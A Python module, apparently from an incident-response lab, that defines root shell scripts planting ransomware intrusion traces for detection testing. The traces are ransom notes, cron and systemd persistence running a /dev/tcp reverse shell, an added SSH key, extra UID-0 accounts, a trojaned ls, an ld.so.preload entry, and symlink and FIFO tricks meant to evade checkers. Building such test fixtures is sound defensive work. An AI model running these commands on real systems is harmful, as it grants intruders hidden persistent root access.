"""Infection scenarios: what real ransomware intrusions leave on a Linux server.

Each scenario is a shell script run as root inside the host (the lab's trusted path), planting
the traces that incident responders found after LockBit, BlackCat/ALPHV, Royal and similar
intrusions: ransom notes next to encrypted files, cron and systemd persistence, an extra SSH
key and a second UID-0 account, a trojaned system binary, and an /etc/ld.so.preload rootkit.
Windows scenarios live with the Windows personality (restore.lab.wsman).
"""

from __future__ import annotations

LINUX_SCENARIOS: dict[str, str] = {
    "ransom-notes": """
mkdir -p /srv/data/lab-results /home/biologist/Documents
for f in results-2026-11-19 analyser-export worklist; do
  head -c 4096 /dev/urandom > /srv/data/lab-results/$f.csv.lockbit
done
head -c 2048 /dev/urandom > /home/biologist/Documents/protocol.docx.lockbit
cat > /srv/data/README_RESTORE_FILES.txt <<'NOTE'
~~~ Your data are stolen and encrypted ~~~
To recover your files contact us through the Tor link below. Do not try to decrypt them.
NOTE
cp /srv/data/README_RESTORE_FILES.txt /home/biologist/Documents/
""",
    "cron-persistence": """
cat > /etc/cron.d/sysupdate <<'CRON'
*/5 * * * * root /usr/local/bin/sysupdate >/dev/null 2>&1
CRON
printf '#!/bin/sh\\nexec /bin/sh -i >/dev/tcp/127.0.0.1/4444 2>&1\\n' > /usr/local/bin/sysupdate
chmod 755 /usr/local/bin/sysupdate
mkdir -p /etc/systemd/system/multi-user.target.wants
cat > /etc/systemd/system/sysupdate.service <<'UNIT'
[Unit]
Description=System update helper
[Service]
ExecStart=/usr/local/bin/sysupdate
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
ln -sf /etc/systemd/system/sysupdate.service /etc/systemd/system/multi-user.target.wants/sysupdate.service
""",
    "backdoor-account": """
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeAttackerKeyForLabUseOnly0000000000000000 backup@localhost' >> /root/.ssh/authorized_keys
echo 'svc-backup:x:0:0:Backup service:/root:/bin/bash' >> /etc/passwd
echo 'svc-backup:*:20000:0:99999:7:::' >> /etc/shadow
""",
    "modified-binary": """
cp /usr/bin/ls /tmp/.ls.orig
cat /tmp/.ls.orig > /usr/bin/ls
printf '\\n#trojan payload\\n' >> /usr/bin/ls
rm -f /tmp/.ls.orig
""",
    "ld-preload": """
head -c 1024 /dev/urandom > /usr/lib/libsysupdate.so
echo /usr/lib/libsysupdate.so > /etc/ld.so.preload
""",
    # What a careful intruder leaves for a checker that trusts `find -type f` and 7-field
    # passwd lines: links, a 4-field UID-0 account, and a FIFO that hangs a naive reader.
    "hidden-persistence": """
printf '* * * * * root /var/tmp/.cache/upd\\n' > /var/tmp/.job
ln -s /var/tmp/.job /etc/cron.d/logrotate-daily
printf '[Service]\\nExecStart=/var/tmp/.cache/upd\\n' > /tmp/dbus-helper.service
mkdir -p /etc/systemd/system/multi-user.target.wants
ln -s /tmp/dbus-helper.service /etc/systemd/system/multi-user.target.wants/dbus-helper.service
echo 'sys-maint:x:0:0' >> /etc/passwd
mkfifo /etc/cron.d/.lock
ln -s /etc/cron.d/.lock /etc/profile.d/zz-locale.sh
""",
}
LINUX_SCENARIOS["ransomware"] = "\n".join(
    LINUX_SCENARIOS[name]
    for name in (
        "ransom-notes",
        "cron-persistence",
        "backdoor-account",
        "modified-binary",
        "ld-preload",
    )
)
